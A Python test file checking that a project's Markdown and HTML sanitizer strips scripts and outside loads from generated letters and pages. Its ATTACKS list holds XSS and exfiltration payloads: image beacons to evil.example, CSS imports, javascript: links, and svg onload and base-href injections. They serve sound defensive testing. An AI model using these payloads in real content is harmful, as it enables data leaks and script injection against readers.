"""What becomes of Markdown and HTML: it loads nothing, runs nothing, and says what it said."""

import pytest

from sayso.automations.papers import letter, markup, page

ATTACKS = [
    "![x](https://evil.example/p.png?leak=1)",
    "![x](//evil.example/p.png)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](javascript:alert(1))",
    "<img src=https://evil.example/p.png>",
    "<script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "[x]: https://evil.example/p.png\n![x]",
    "<style>@import url(https://evil.example/x.css)</style>",
    '<p style="background:url(https://evil.example/x.png)">a</p>',
    '<table background="https://evil.example/p.png"><tr><td>a</td></tr></table>',
    '<a href="vbscript:x">a</a><form action=https://evil.example><input></form>',
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example>",
    '<p style="width: expression(alert(1)); list-style-image: u\\72l(//evil.example/x)">a</p>',
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("read", [markup.from_markdown, markup.safe])
def test_nothing_is_loaded_and_nothing_runs(attack: str, read: object):
    html = read(attack)  # type: ignore[operator]
    for whole in (html, letter.letter(html, title="T", footer="F"), page.page(html, title="T", pictures={}).decode()):
        tags = {tag for tag in ("<script", "<iframe", "<svg", "<form", "<input", "<link", "<base", "<object") if tag in whole}
        assert not tags
        for attribute in (
            'src="http',
            'src="//',
            'src="data:text',
            "javascript:",
            "vbscript:",
            'background="',
            "onload",
            "url(",
            "expression(",
        ):
            assert attribute not in whole.replace("&lt;", "").split("<body")[-1].lower() or attribute in _shown(whole)


def _shown(whole: str) -> str:
    """What a reader sees as text."""
    return markup.plain(whole).lower()


def test_a_table_of_rows_stays_a_table_whatever_is_in_it():
    table = markup.table(
        ["Deal|er", "Value"], [["Otto | *Ltd*\n<b>", "€1.00"], ["[a](http://x)", "![p](cid:f_1)"]], frozenset({1})
    )
    html = markup.from_markdown(f"Hello\n{table}\nBye")
    assert html.count("<tr>") == 3 and html.count("<td") == 4 and "<a" not in html and "<img" not in html
    assert 'style="text-align:right"' in html and "Otto | *Ltd* &lt;b&gt;" in html
    assert markup.plain(html).splitlines() == [
        "Hello", "", "Deal|er | Value", "Otto | *Ltd* <b> | €1.00", "[a](http://x) | ![p](cid:f_1)", "", "Bye"
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "# Big",
        "*a* _b_ `c`",
        "[x](http://y)",
        "1. a\n- b",
        "<b>&amp;",
        "a\n\n> b\n    c",
        "http://x.y",
        "| a |\n|---|",
        "\\*",
        "~~a~~",
    ],
)
def test_what_a_row_says_stays_what_it_says(text: str):
    html = markup.from_markdown(markup.escaped_markdown(text))
    assert not {
        tag for tag in ("<h1", "<em", "<code", "<a ", "<li", "<b>", "<blockquote", "<table", "<s>", "<pre") if tag in html
    }
    assert markup.plain(html).split() == text.split()


def test_the_words_alone_are_a_letter_too():
    html = markup.from_markdown(
        "# Hi\n\n- one\n- two\n  - three\n\n1. a\n2. b\n\n[the app](https://x.example/y) and <ana@x.example>\n\n> said\n\n```\na  b\n```\n\n![Deals](cid:f_1)"
    )
    assert markup.plain(html) == (
        "Hi\n\n- one\n- two\n\n  - three\n\n1. a\n2. b\n\nthe app (https://x.example/y) and ana@x.example\n\nsaid\n\na  b\n\n[Deals]"
    )
    assert markup.pictures_in(html) == ("f_1",)


def test_a_page_carries_its_pictures():
    html = markup.from_markdown("![Deals](cid:f_1) ![Gone](cid:f_2)")
    whole = page.page(html, title="A <b>", pictures={"f_1": ("image/png", b"PNG")}).decode()
    assert 'src="data:image/png;base64,UE5H"' in whole and whole.count("<img") == 1 and "<title>A &lt;b&gt;</title>" in whole
    assert "default-src 'none'" in whole
